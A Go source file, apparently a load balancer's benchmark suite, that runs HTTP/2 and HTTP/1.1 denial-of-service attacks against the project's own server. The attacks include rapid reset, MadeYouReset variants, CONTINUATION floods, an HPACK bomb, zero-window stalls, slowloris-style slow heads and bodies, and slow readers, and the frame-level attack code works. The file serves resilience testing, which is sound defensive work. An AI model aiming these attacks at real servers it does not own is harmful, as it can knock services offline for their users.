package main

import (
	"cmp"
	"fmt"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"

	"github.com/cirque-lb/lb/bench/rig"
)

var attacks = []attack{
	{name: "rapid reset", frame: func(l *rig.Link, i int) error {
		open(l, i, true)
		return l.WriteRSTStream(number(i), http2.ErrCodeCancel)
	}},
	{name: "MadeYouReset: overflowing window", frame: func(l *rig.Link, i int) error {
		open(l, i, true)
		return l.WriteWindowUpdate(number(i), 1<<31-1)
	}},
	{name: "MadeYouReset: window of 0", frame: func(l *rig.Link, i int) error {
		open(l, i, true)
		return l.WriteWindowUpdate(number(i), 0)
	}},
	{name: "MadeYouReset: DATA after the end", frame: func(l *rig.Link, i int) error {
		open(l, i, true)
		return l.WriteData(number(i), true, []byte("x"))
	}},
	{name: "MadeYouReset: HEADERS after the end", frame: func(l *rig.Link, i int) error {
		open(l, i, true)
		return l.WriteHeaders(http2.HeadersFrameParam{StreamID: number(i), BlockFragment: l.Fields("x", "y"), EndHeaders: true, EndStream: true})
	}},
	{name: "MadeYouReset: a stream that depends on itself", frame: func(l *rig.Link, i int) error {
		open(l, i, true)
		return l.WritePriority(number(i), http2.PriorityParam{StreamDep: number(i)})
	}},
	{name: "CONTINUATION, full", frame: func(l *rig.Link, i int) error {
		if i == 0 {
			return l.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
		}
		return l.WriteContinuation(1, false, literals)
	}},
	{name: "CONTINUATION, empty", frame: func(l *rig.Link, i int) error {
		if i == 0 {
			return l.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
		}
		return l.WriteContinuation(1, false, nil)
	}},
	{name: "PING", frame: func(l *rig.Link, i int) error { return l.WritePing(false, [8]byte{}) }},
	{name: "SETTINGS", frame: func(l *rig.Link, i int) error { return l.WriteSettings() }},
	{name: "empty DATA", frame: func(l *rig.Link, i int) error {
		if i == 0 {
			return l.Say(1, false, post...)
		}
		return l.WriteData(1, false, nil)
	}},
	{name: "unknown frames", frame: func(l *rig.Link, i int) error { return l.WriteRawFrame(0xbe, 0, 0, nil) }},
	{name: "PRIORITY", frame: func(l *rig.Link, i int) error {
		return l.WritePriority(1<<30+1, http2.PriorityParam{StreamDep: 3})
	}},
	{name: "windows of one byte", frame: func(l *rig.Link, i int) error {
		if i == 0 {
			l.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
			return l.Say(1, true, big...)
		}
		return l.WriteWindowUpdate(1, 1)
	}},
	{name: "HPACK bomb", frame: func(l *rig.Link, i int) error {
		block := append([]byte(nil), l.Fields(append(get, "x", strings.Repeat("a", 3900))...)...)
		for range 3000 {
			block = append(block, 0x80|62) // the newest entry of the dynamic table
		}
		return l.WriteHeaders(http2.HeadersFrameParam{StreamID: number(i), BlockFragment: block, EndStream: true, EndHeaders: true})
	}},
	{name: "zero windows", few: true, hold: stalled(0, func(l *rig.Link) []byte { return l.Fields(big...) })},
	{name: "many references to fields, with zero windows", few: true, hold: stalled(0, references)},
	{name: "windows that open by a byte a second", few: true, hold: opening},
	{name: "slow heads", hold: dribble("GET / HTTP/1.1\r\nHost: a\r\nX: ", "x"), wall: atSilence},
	{name: "slow bodies", hold: dribble("POST /sink HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n", "x"), wall: atSilence},
	{name: "slow readers", hold: slowReader, wall: atOrigin},
}

var (
	get      = []string{":method", "GET", ":scheme", "http", ":path", "/", ":authority", "a"}
	post     = []string{":method", "POST", ":scheme", "http", ":path", "/", ":authority", "a"}
	big      = []string{":method", "GET", ":scheme", "http", ":path", "/big", ":authority", "a"}
	literals = []byte(strings.Repeat("\x00\x01x\x01y", 16384/5))
)

func number(i int) uint32 { return uint32(2*i + 1) }

func open(l *rig.Link, i int, end bool) { l.Say(number(i), end, get...) }

// references is a head with 80 fields of 600 bytes, each one byte on the wire
// when they were sent before.
func references(l *rig.Link) []byte {
	block := append([]byte(nil), l.Fields(big...)...)
	block = append(block, l.Fields("x", strings.Repeat("a", 600))...)
	for range 80 {
		block = append(block, 0x80|62)
	}
	return block
}

// stalled opens 100 streams to a large body and gives no window for it.
func stalled(window uint32, head func(*rig.Link) []byte) func(*rig.Running, time.Time, *atomic.Int64) string {
	return func(r *rig.Running, until time.Time, sent *atomic.Int64) string {
		l, err := rig.Dial(r.H2, time.Until(until), http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
		if err != nil {
			return "not connected"
		}
		defer l.Close()
		defer func() { sent.Add(l.Sent()) }()
		for i := range 100 {
			block := head(l)
			if l.WriteHeaders(http2.HeadersFrameParam{StreamID: number(i), BlockFragment: block, EndStream: true, EndHeaders: true}) != nil {
				break
			}
		}
		for over := 0; over < 100; {
			l.Patience = time.Until(until)
			if !l.Step() {
				break
			}
			over = 0
			for i := range 100 {
				if l.Of(number(i)).End != "" {
					over++
				}
			}
		}
		switch {
		case l.Gone() == "":
			return "all streams reset"
		case l.Gone() == "silence":
			return "no end"
		}
		return l.Gone()
	}
}

// opening gives every stream a byte of window now and then.
func opening(r *rig.Running, until time.Time, sent *atomic.Int64) string {
	l, err := rig.Dial(r.H2, time.Until(until), http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
	if err != nil {
		return "not connected"
	}
	defer l.Close()
	defer func() { sent.Add(l.Sent()) }()
	l.NoAck = true // it would meet our windows
	l.Patience = time.Until(until)
	const streams = 20
	for i := range streams {
		l.Say(number(i), true, big...)
	}
	ended := make(chan string, 1)
	go func() { // ends with the connection
		for over := 0; over < streams && l.Step(); {
			over = 0
			for i := range streams {
				if l.Of(number(i)).End != "" {
					over++
				}
			}
		}
		ended <- cmp.Or(l.Gone(), "all streams reset")
	}()
	for i := 0; time.Now().Before(until); i++ {
		select {
		case how := <-ended:
			if how == "silence" {
				how = "no end"
			}
			return how
		case <-time.After(time.Second / streams):
		}
		if l.WriteWindowUpdate(number(i%streams), 1) != nil {
			return "close"
		}
	}
	return "no end"
}

// dribble sends a start, and then a byte every second.
func dribble(start, more string) func(*rig.Running, time.Time, *atomic.Int64) string {
	return func(r *rig.Running, until time.Time, sent *atomic.Int64) string {
		c, err := net.DialTimeout("tcp", r.Addr, patience)
		if err != nil {
			return "not connected"
		}
		defer c.Close()
		began := time.Now()
		ended := make(chan string, 1)
		go func() { // ends with the connection
			b, _ := io.ReadAll(c)
			status := "close"
			if f := strings.Fields(string(b)); len(f) > 1 {
				status = f[1]
			}
			ended <- status
		}()
		part := start
		for time.Now().Before(until) {
			n, _ := io.WriteString(c, part)
			sent.Add(int64(n))
			part = more
			select {
			case how := <-ended:
				return fmt.Sprintf("%s after %ds", how, int(time.Since(began).Seconds()))
			case <-time.After(time.Second):
			}
		}
		return "no end"
	}
}

// slowReader asks for a large body and reads nothing.
func slowReader(r *rig.Running, until time.Time, sent *atomic.Int64) string {
	c, err := net.DialTimeout("tcp", r.Addr, patience)
	if err != nil {
		return "not connected"
	}
	defer c.Close()
	c.(*net.TCPConn).SetReadBuffer(4096)
	n, _ := io.WriteString(c, "GET /big HTTP/1.1\r\nHost: a\r\n\r\n")
	sent.Add(int64(n))
	began := time.Now()
	for time.Now().Before(until) {
		time.Sleep(min(500*time.Millisecond, time.Until(until)))
		// A reset shows when writing; bytes behind the request say little.
		if _, err := c.Write([]byte("\r\n")); err != nil {
			return fmt.Sprintf("reset after %ds", int(time.Since(began).Seconds()))
		}
		sent.Add(2)
	}
	return "no end"
}
